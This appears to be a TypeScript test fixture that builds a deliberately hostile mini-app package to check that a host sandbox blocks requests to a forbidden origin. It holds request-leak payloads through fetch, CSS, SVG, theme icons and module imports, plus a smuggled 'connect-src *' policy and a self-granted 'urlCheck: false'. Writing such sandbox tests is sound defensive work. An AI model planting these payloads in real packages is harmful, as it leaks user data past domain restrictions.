/** A package whose every file is hostile. */
import { outputOf, packTest } from "../host/site.ts";
import type { TestPackage } from "../host/site.ts";
import { leakingStyles } from "./more-attempts.ts";

const page = "pages/a/a";
const encoder = new TextEncoder();

/**
 * @param hostOrigin origin of the host page
 * @param to origin that must not get a request
 * @param script returns the code of its `app.js`
 */
export function hostilePackage(
  hostOrigin: string,
  to: string,
  script: (context: Readonly<Record<string, string>>) => string,
): Promise<TestPackage> {
  const code = script({ collector: to, socket: to.replace("http", "ws"), host: hostOrigin });
  const styles = leakingStyles(to);
  const theme = { look: { backgroundColor: `url(${to}/bar)` }, icons: [{ iconPath: `${to}/icon` }] };
  const classes = styles.classes.map((name) => ["view", [2, "class", name], "text"]);
  const inline = styles.inline.map((text) => ["view", [4, "style", text], "text"]);
  const skeleton = [["view", 0, ...classes, ...inline]];
  const output = outputOf(
    {
      "_miniapp/app.json": JSON.stringify({
        entryPagePath: page,
        window: { light: {} },
        script: "app.js",
        workers: "workers",
        style: ["_miniapp/style/app.css"],
        tabBar: { list: [page, "pages/b/b"].map((pagePath) => ({ pagePath, text: "tab" })), themed: { light: theme } },
        // Only previews may set this; a package cannot exempt itself from its domain list.
        urlCheck: false,
        packages: [
          { name: "main", root: "", independent: false, pages: [page, "pages/b/b"] },
          { name: "more", root: "more", independent: false, pages: [] },
        ],
      }),
      "_miniapp/entries.json": JSON.stringify({
        [page]: { kind: "page", script: `${page}.js`, template: `${page}.wxml`, json: {} },
        "pages/b/b": { kind: "page", script: `${page}.js`, template: `${page}.wxml`, json: {} },
      }),
      // Runs before any module: the top-level code of a chunk.
      "_miniapp/logic.js": `
var atTop = typeof fetch + typeof importScripts + typeof postMessage;
__miniapp_define__("main", {
"app.js": [function (require, module, exports) { console.log("top", atTop); App({}); ${code} }],
"${page}.js": [function (require, module, exports) { Page({}); }],
"${page}.wxml": [function ($) { var b = $.b(${JSON.stringify(skeleton)}); return { file: "a.wxml", main: $.d([], b), definitions: [], imports: [], includes: [], wxs: [] }; }],
}, {});`,
      "_miniapp/workers.js": `__miniapp_define__("workers", {}, {});`,
      "_miniapp/view.json": JSON.stringify({ [`${page}.wxml`]: [skeleton] }),
      "_miniapp/style/app.css": `${styles.sheet}
page { background: url("${to}/background.png"); }
@font-face { font-family: stolen; src: url("${to}/font.woff2"); } page { font-family: stolen; }
page::after { content: url("${to}/content.png"); cursor: url("${to}/cursor.png"), auto; }`,
      "data/evil.js": `fetch("${to}/evil.js")`,
      "data/own.json": "{}",
      "data/evil.html": `<script>fetch("${to}/evil.html")</script>`,
      "data/evil.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${to}/evil.svg")</script><style>@import "${to}/style.svg";</style><image href="${to}/image.svg"/><filter id="f"><feImage href="${to}/filter.svg"/></filter><mask id="m"><image width="9" height="9" href="${to}/mask.svg"/></mask></svg>`,
    },
    { request: ["https://allowed.example"], webview: [`https://allowed.example; connect-src *; report-uri ${to}`] },
  );
  const module = `import "${to}/static.js"; import x from "${to}/static.json" with { type: "json" }; export * from "${to}/again.js"; export default x;`;
  const files = Object.entries({ "entries.json": "{}", "logic.js": module, "view.json": "{}" }).map(([name, text]) => ({
    path: `more/_miniapp/${name}`,
    content: encoder.encode(text),
  }));
  const subpackages = [...output.subpackages, { name: "more", root: "more", independent: false, files }];
  return packTest({ ...output, subpackages });
}
